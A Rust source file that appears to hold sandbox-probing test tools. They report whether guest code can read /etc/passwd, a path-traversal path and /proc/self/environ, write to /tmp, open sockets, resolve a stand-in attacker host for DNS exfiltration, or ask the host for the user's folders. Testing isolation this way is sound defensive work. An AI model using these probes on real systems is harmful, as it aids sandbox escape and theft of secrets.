//! Tools that look for what nobody granted them. Each answers with what it found.

use std::net::{TcpStream, ToSocketAddrs, UdpSocket};

use guest_support::{Value, host, json, types};

/// Every file and folder that can be listed, read or written.
pub fn read_files() -> Value {
    let mut found = Vec::new();
    for folder in ["/", ".", "..", "/etc", "/tmp", "/proc/self"] {
        if let Ok(entries) = std::fs::read_dir(folder) {
            found.extend(
                entries
                    .flatten()
                    .map(|entry| Value::from(entry.path().display().to_string())),
            );
        }
    }
    for file in [
        "/etc/passwd",
        "../../../../etc/passwd",
        "/proc/self/environ",
    ] {
        if std::fs::read(file).is_ok() {
            found.push(file.into());
        }
    }
    if std::fs::write("/tmp/sandglass-escape", "out").is_ok() {
        found.push("/tmp/sandglass-escape".into());
    }
    found.into()
}

/// True for each kind of socket that could be used.
pub fn open_socket(address: &str) -> Value {
    json!({
        "tcp": TcpStream::connect(address).is_ok(),
        "udp": UdpSocket::bind("127.0.0.1:0").and_then(|socket| socket.send_to(b"out", address)).is_ok(),
        "listen": std::net::TcpListener::bind("127.0.0.1:0").is_ok(),
    })
}

/// The addresses that names resolve to: a name to look up is a way out for data.
pub fn dns_lookup() -> Value {
    ["localhost:80", "secret.attacker.example:53"]
        .iter()
        .filter_map(|name| name.to_socket_addrs().ok())
        .flatten()
        .map(|address| Value::from(address.to_string()))
        .collect()
}

/// Asks the person behind the client for the folders they work on.
pub fn ask() -> String {
    let question = types::Question {
        key: "roots".into(),
        ask: types::QuestionKind::ListRoots,
    };
    match host::ask(&[question]) {
        Ok(answers) => format!("{} answers", answers.len()),
        Err(host::AskError::Unsupported(missing)) => format!("unsupported: {missing}"),
        Err(host::AskError::TimedOut) => "timed out".into(),
        Err(host::AskError::Failed(why)) => format!("failed: {why}"),
    }
}
